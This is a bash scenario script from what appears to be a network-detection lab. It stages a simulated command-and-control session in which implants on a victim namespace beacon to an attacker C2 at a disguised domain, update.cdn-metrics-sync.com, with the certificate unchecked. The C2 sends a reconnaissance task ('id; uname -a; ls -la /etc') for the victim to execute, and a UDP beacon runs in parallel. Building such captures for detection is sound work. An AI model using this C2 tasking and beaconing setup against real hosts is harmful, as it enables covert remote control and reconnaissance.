# sourced by run-scenario.sh: the story played between the hosts
# Command and control over sessions that never close. Implant A (tools/session-beacon-agent.py) opens ONE TLS 1.2
# connection (SNI update.cdn-metrics-sync.com, certificate not checked) to the attacker's
# tools/session-c2-server.py on 8443 and keeps it open for the whole story: a length-prefixed JSON check-in of
# 150-250 bytes every 5 s +-20 % (30 in all), answered {"task":null}; the answer to check-in 10 is a task, whose
# output goes back in check-in 11. The C2's certificate is made by tools/make-cert.py seconds before the capture:
# a leaf valid 2 days, signed by a throw-away CA made at the same moment (its self-signed root sent in the chain).
# Implant B (tools/udp-beacon-agent.py) keeps ONE UDP socket (source port 51515) and sends 40-90 byte datagrams
# every 7 s +-25 % to the attacker's UDP 9999, answered with 30-60 bytes (20 exchanges). The benign client
# browses the victim's web site and resolves corp.lan names meanwhile.
NET=172.31.226; ATT=66; VIC=10; CLI=23; DNS=2; SHELLPORT=0
C2NAME=update.cdn-metrics-sync.com
EXTRA_HOSTS="$NET.66 $C2NAME"
TASK='id; uname -a; ls -la /etc | head -20'
services() {
  printf 'nameserver %s\n' $D > "/etc/netns/$P-vic/resolv.conf"
  /usr/bin/python3 "$HERE/tools/make-cert.py" "$RUN" "cdn-metrics-sync.com" $C2NAME $C2NAME 0 2
  nsx att timeout 260 /usr/bin/python3 "$HERE/tools/session-c2-server.py" $A 8443 "$RUN/leaf.pem" "$RUN/leaf.key" 9999 10 "$TASK" 250 >"$RUN/logs/c2.log" 2>&1 &
}
cli_lookups() {
  for n in portal.corp.lan files.corp.lan; do nsx cli dig +short @$D $n A >/dev/null || true; done
}
play() {
  note "attacker $A (tools/session-c2-server.py: TLS 1.2 on 8443 as $C2NAME, UDP 9999; certificate from tools/make-cert.py: leaf CN/SAN $C2NAME, 2 days from the moment it was made, signed by a throw-away CA 'cdn-metrics-sync.com' made with it); victim $V (both implants; resolver $D); benign client $C; dns $D"
  benign_background
  note "1 implant A: ONE TLS connection from $V to $A:8443 (after one DNS lookup of $C2NAME), SNI $C2NAME, kept open: 30 check-ins (4-byte length + JSON, 150-250 bytes) every 5 s +-20 % (uniform, seeded), each answered {\"task\":null}, no TCP keep-alive, no reconnect; closed after check-in 30"
  note "2 task: the answer to check-in 10 is {\"task\":\"$TASK\"}; the implant runs it (sh -c, 10 s timeout, host name files) and sends its output in check-in 11 (status result)"
  note "3 implant B: ONE UDP socket $V:51515 -> $A:9999, 20 datagrams of 40-90 bytes every 7 s +-25 % (uniform, seeded), each answered with 30-60 bytes"
  ( nsx vic unshare -u bash -c "hostname files && exec timeout 220 /usr/bin/python3 '$HERE/tools/session-beacon-agent.py' $C2NAME 8443 5 0.2 30" >"$RUN/logs/agent-tls.log" 2>&1 ) &
  local apid=$!
  sleep 2
  ( nsx vic timeout 200 /usr/bin/python3 "$HERE/tools/udp-beacon-agent.py" $A 9999 51515 7 0.25 20 >"$RUN/logs/agent-udp.log" 2>&1 ) &
  local upid=$!
  local r=0
  while kill -0 $apid 2>/dev/null && [ $r -lt 12 ]; do
    sleep 20; r=$((r + 1))
    cli_lookups
    [ $((r % 2)) = 1 ] && benign_background
  done
  wait $apid || true
  wait $upid || true
  sleep 1
  note "   server: $(grep -c ' check-in ' "$RUN/logs/c2.log") TLS check-ins, $(grep -c 'task sent' "$RUN/logs/c2.log") task sent, $(grep -c 'RESULT' "$RUN/logs/c2.log") result, $(grep -c ' udp ' "$RUN/logs/c2.log") UDP exchanges"
  note "4 the benign client resolves portal/files.corp.lan every ~20 s with dig and browses the victim's site (Chrome UA over HTTP) every ~40 s"
}
